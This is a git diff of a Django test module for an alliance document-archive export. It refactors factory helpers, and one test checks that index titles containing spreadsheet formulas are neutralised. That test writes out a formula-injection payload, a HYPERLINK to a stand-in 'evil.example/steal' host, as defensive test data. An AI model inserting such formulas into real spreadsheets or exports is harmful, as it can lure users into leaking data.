@@ -37,16 +37,8 @@ from reports.tasks import build_archive, purge_archives
 
 from ..celery_support import REFUSED_REDIS_URL, broker_at
 from ..conftest import client_for
-from ..factories import make_meeting
-from .conftest import (
-    approved_plan,
-    make_export,
-    pdf_text,
-    published_agreement,
-    ready_export,
-    sign,
-    zip_of,
-)
+from ..factories import make_approved_plan, make_meeting, make_published_agreement, sign_agreement
+from .conftest import make_export, pdf_text, ready_export, zip_of
 
 INDEX_COLUMNS = ["File", "Document", "Title", "Date", "Status", "SHA-256", "Bytes"]
 PRINTED = re.compile(r"(\d+) of (\d+) documents printed")
@@ -168,8 +160,13 @@ def test_archive_of_the_seeded_alliance_holds_every_document_listed_in_its_index
 
 def test_index_neutralises_titles_a_spreadsheet_would_run(cast, django_capture_on_commit_callbacks):
     formula = '=HYPERLINK("https://evil.example/steal","Open the plan")'
-    approved_plan(
-        cast.alliance, coordinator=cast.coordinator, chair=cast.chair, actions=1, title=formula
+    make_approved_plan(
+        cast.alliance,
+        cast.coordinator,
+        cast.chair,
+        actions=1,
+        action_title="Planned action {number}",
+        title=formula,
     )
 
     export = request_archive(cast.alliance, cast.coordinator, django_capture_on_commit_callbacks)
@@ -188,9 +185,9 @@ def test_same_titled_documents_get_files_of_their_own(
 ):
     for _ in range(2):
         make_meeting(cast.alliance, cast.secretary, title="Plenary meeting")
-    version = published_agreement(cast.alliance, coordinator=cast.coordinator)
+    version = make_published_agreement(cast.alliance, cast.coordinator)
     for user in (cast.member, cast.secretary):
-        sign(version, cast.membership(user), typed_name="Maria Example")
+        sign_agreement(version, cast.membership(user), typed_name="Maria Example")
 
     export = request_archive(cast.alliance, cast.coordinator, django_capture_on_commit_callbacks)
 
